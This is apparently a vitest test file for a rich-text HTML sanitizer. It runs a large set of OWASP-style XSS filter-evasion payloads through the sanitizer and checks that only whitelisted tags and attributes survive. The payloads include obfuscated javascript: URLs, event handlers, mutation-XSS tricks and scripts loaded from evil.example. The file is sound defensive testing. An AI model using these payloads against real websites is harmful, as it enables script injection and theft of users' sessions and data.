import { describe, expect, test } from 'vitest'
import { richTextToPlain, richAttributes, richTags } from '~/worker/core/rich-text'
import { sanitizeRichText } from '~/worker/core/rich-text.server'

const bell = String.fromCharCode(7)
const nul = String.fromCharCode(0)
/** The classes of attack of the OWASP filter-evasion list, each in several variants. */
const attacks: Record<string, readonly string[]> = {
  'a script, in any spelling': [
    '<script>steal()</script>',
    '<ScRiPt src="https://evil.example/a.js"></ScRiPt>',
    '<script/defer src=//evil.example/a.js></script>',
    '<script\n>steal()</script\n>',
    '<script a=">" src="https://evil.example/a.js"></script>',
    '<script src="https://evil.example/a.jpg"></script>',
    '<script>steal()',
    '</title><script>steal()</script>',
  ],
  'a tag within a tag, or one that never ends': [
    '<<script>steal();//<</script>',
    '<scr<script>ipt>steal()</scr</script>ipt>',
    '<img src="https://evil.example/?',
    '<iframe src=https://evil.example/frame.html <',
    '<p <script>steal()</script>>词</p>',
  ],
  'a handler of an event': [
    '<img src=x onerror=steal()>',
    '<p onclick="steal()">词</p>',
    '<a onmouseover=steal()>词</a>',
    '<img src=x:x onerror\n=\nsteal()>',
    '<p/onpointerenter=steal()>词</p>',
    '<p onclick=&#115;teal()>词</p>',
    '<body onload=steal()>',
    '<svg/onload=steal()>',
    '<details open ontoggle=steal()>词</details>',
    '<video><source onerror=steal()></video>',
    `<p${bell}onclick=steal()>词</p>`,
    `<p${nul}onclick=steal()>词</p>`,
  ],
  'an address that is a program': [
    '<a href="javascript:steal()">词</a>',
    '<a href=JaVaScRiPt:steal()>词</a>',
    '<a href=`javascript:steal()`>词</a>',
    '<a href="  javascript:steal()">词</a>',
    '<a href="java\tscript:steal()">词</a>',
    '<a href="java\nscript:steal()">词</a>',
    '<a href="&#106;&#97;vascript:steal()">词</a>',
    '<a href="&#x6A&#x61vascript:steal()">词</a>',
    '<a href="&#0000106avascript:steal()">词</a>',
    '<a href="jav&#x0A;ascript&colon;steal()">词</a>',
    `<a href="${bell}javascript:steal()">词</a>`,
    `<a href="java${nul}script:steal()">词</a>`,
    '<a href="vbscript:MsgBox(1)">词</a>',
    '<a href="livescript:steal()">词</a>',
    '<a href="data:text/html,<script>steal()</script>">词</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">词</a>',
    '<a href="view-source:javascript:steal()">词</a>',
    '<img src="javascript:steal()">',
    '<img dynsrc="javascript:steal()" lowsrc="javascript:steal()">',
    '<table background="javascript:steal()"><tr><td>词</td></tr></table>',
    '<form action="javascript:steal()"><button formaction="javascript:steal()">词</button></form>',
    '<bgsound src="javascript:steal()">',
  ],
  'an address without a scheme': ['<a href="//evil.example/a">词</a>', '<a href="\\\\evil.example\\a">词</a>'],
  'a style': [
    '<style>@import "https://evil.example/a.css";</style>',
    '<p style="background:url(javascript:steal())">词</p>',
    '<p style="width:expression(steal())">词</p>',
    '<p style="behavior:url(a.htc)">词</p>',
    '<p style="position:fixed;inset:0">词</p>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<style/onload=steal()></style>',
  ],
  'what loads or moves a page': [
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<frameset><frame src="javascript:steal()"></frameset>',
    '<object data="javascript:steal()"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<applet code="a"></applet>',
    '<meta http-equiv="refresh" content="0;url=javascript:steal()">',
    '<base href="https://evil.example/">',
    '<portal src="https://evil.example"></portal>',
  ],
  'another language in the page': [
    '<svg><script>steal()</script></svg>',
    '<svg><style><img src=x onerror=steal()></style></svg>',
    '<svg><a xlink:href="javascript:steal()">词</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=steal()>',
    '<math href="javascript:steal()">词</math>',
    '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">steal()</html:script>',
    '<xml><i><b>&lt;img src=x onerror=steal()&gt;</b></i></xml>',
  ],
  'a text that another reader takes for a tag': [
    '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    '<textarea></textarea><img src=x onerror=steal()>',
    '<title></title><img src=x onerror=steal()>',
    '<xmp><img src=x onerror=steal()></xmp>',
    '<plaintext><img src=x onerror=steal()>',
    '<template><img src=x onerror=steal()></template>',
    '<select><option><style><img src=x onerror=steal()>',
  ],
  'a comment or a section': [
    '<!--[if gte IE 4]><script>steal()</script><![endif]-->',
    '<!--><script>steal()</script>-->',
    '<!-- --!><script>steal()</script> -->',
    '<![CDATA[<script>steal()</script>]]>',
    '<!DOCTYPE p [<!ENTITY a "<script>steal()</script>">]><p>&a;</p>',
  ],
  'a name that the page would take for its own': [
    '<p id="root" name="location" class="semi-modal">词</p>',
    '<form id="document"><input name="cookie"></form>',
    '<a id="config" href="https://example.org" ping="https://evil.example" download>词</a>',
  ],
  'a table that carries more than cells': [
    '<table onclick=steal() style="position:fixed" border=1><tr onmouseover=steal()><td onclick=steal()>词</td></tr></table>',
    '<table><tr><td colspan="2 onclick=steal()">词</td></tr></table>',
    '<table><tr><td colspan="1e9" rowspan="99999999">词</td></tr></table>',
    '<table><tr><td colspan="javascript:steal()" background="javascript:steal()">词</td></tr></table>',
    '<table><caption onclick=steal()><img src=x onerror=steal()></caption><colgroup><col onclick=steal()></colgroup></table>',
    '<table><tr><td><script>steal()</script><style>*{display:none}</style>词</td></tr></table>',
    '<td><tr><table onload=steal()></td>词',
  ],
  'sheer mass': [
    `${'<table><tr><td>'.repeat(2000)}词`,
    `${'<blockquote>'.repeat(5000)}词`,
    `<p ${'a=b '.repeat(5000)}>词</p>`,
    `<a href="${'x'.repeat(100_000)}">词</a>`,
  ],
}

/** Tags and attributes of a sanitized text. */
const tagsOf = (html: string) => [...html.matchAll(/<(\/?)([^\s>/]*)([^>]*)>/g)]
const attribute = /\s([\w-]+)="([^"]*)"/g
const harmless: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:)/i,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  start: /^\d*$/,
  colspan: /^([2-9]|[1-9]\d)$/,
  rowspan: /^([2-9]|[1-9]\d)$/,
}

describe.each(Object.entries(attacks))('%s', (_, ways) => {
  test.each(ways.map((html) => [html.slice(0, 80), html]))('%s', (_name, html) => {
    const clean = sanitizeRichText(`<p>开头</p>${html}<p>结尾</p>`)
    expect(clean).toContain('<p>开头</p>')
    for (const [whole, , tag, rest] of tagsOf(clean)) {
      expect(richTags, whole).toContain(tag)
      const written = [...rest!.matchAll(attribute)]
      expect(rest!.replace(attribute, '').replace(/[\s/]/g, ''), whole).toBe('')
      for (const [, name, value] of written) {
        expect((richAttributes as Record<string, readonly string[]>)[tag!] ?? [], whole).toContain(name)
        expect(value, whole).toMatch(harmless[name!]!)
      }
    }
    expect(sanitizeRichText(clean), 'clean once is clean').toBe(clean)
  })
})

test('editor content stays unchanged', () => {
  const written =
    '<h2>一</h2><p><strong>粗</strong><em>斜</em><u>线</u><s>删</s><a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">链</a></p><ul><li><p>项</p></li></ul><ol start="3"><li><p>三</p></li></ol><blockquote><p>引</p></blockquote><hr /><pre><code>a &lt; b</code></pre>'
  expect(sanitizeRichText(written)).toBe(written)
})

test('a pasted table keeps rows, cells and spans, and loses its styles', () => {
  const pasted =
    '<table class="MsoTable" style="width:400px" border="1"><colgroup><col width="72"></colgroup><thead><tr style="height:20px"><th colspan="2" style="background:red">领域</th><th rowspan="1">数量</th></tr></thead><tbody><tr><td rowspan=2><p class="x">运维</p></td><td><b>甲</b></td><td width="72">3</td></tr><tr><td>乙</td><td>4</td></tr></tbody><tfoot><tr><td colspan="3">共 7</td></tr></tfoot></table>'
  const kept =
    '<table><thead><tr><th colspan="2">领域</th><th>数量</th></tr></thead><tbody><tr><td rowspan="2"><p>运维</p></td><td><strong>甲</strong></td><td>3</td></tr><tr><td>乙</td><td>4</td></tr></tbody><tbody><tr><td colspan="3">共 7</td></tr></tbody></table>'
  expect(sanitizeRichText(pasted)).toBe(kept)
  expect(sanitizeRichText(kept)).toBe(kept)
  expect(richTextToPlain(kept)).toBe('领域\t数量\t\n运维\t甲\t3\t\n乙\t4\t\n共 7')
})

describe('word processor content', () => {
  test.each([
    ['<p>x<sup>2</sup> H<sub>2</sub>O</p>', '<p>x<sup>2</sup> H<sub>2</sub>O</p>'],
    ['<p>10<span style="mso-bidi;vertical-align:super">6</span></p>', '<p>10<sup>6</sup></p>'],
    ["<p>CO<span style='vertical-align: sub'>2</span> <span lang=EN>t</span></p>", '<p>CO<sub>2</sub> t</p>'],
    ['<p class=MsoNormal align=center style="text-align:center">题</p>', '<p align="center">题</p>'],
    ['<h1 style="TEXT-ALIGN: right">题</h1>', '<h2 align="right">题</h2>'],
    ['<div align="justify">文</div><p align="left">文</p>', '<p align="justify">文</p><p>文</p>'],
    [
      '<table><tbody><tr><td colspan="2" align="center">格</td></tr></tbody></table>',
      '<table><tbody><tr><td colspan="2" align="center">格</td></tr></tbody></table>',
    ],
    ['<p align="steal()" style="text-align:url(x)">文</p>', '<p>文</p>'],
  ])('%s', (given, kept) => {
    expect(sanitizeRichText(given)).toBe(kept)
    expect(sanitizeRichText(kept)).toBe(kept)
  })
  test('superscripts and subscripts stay in plain text where characters exist', () => {
    expect(richTextToPlain('<p>10<sup>−6</sup> m<sup><em>2</em></sup>，H<sub>2</sub>O，x<sub>i</sub></p>')).toBe(
      '10⁻⁶ m²，H₂O，xᵢ',
    )
    expect(richTextToPlain('<p>见<sup>[1]</sup></p>')).toBe('见[1]')
  })
})
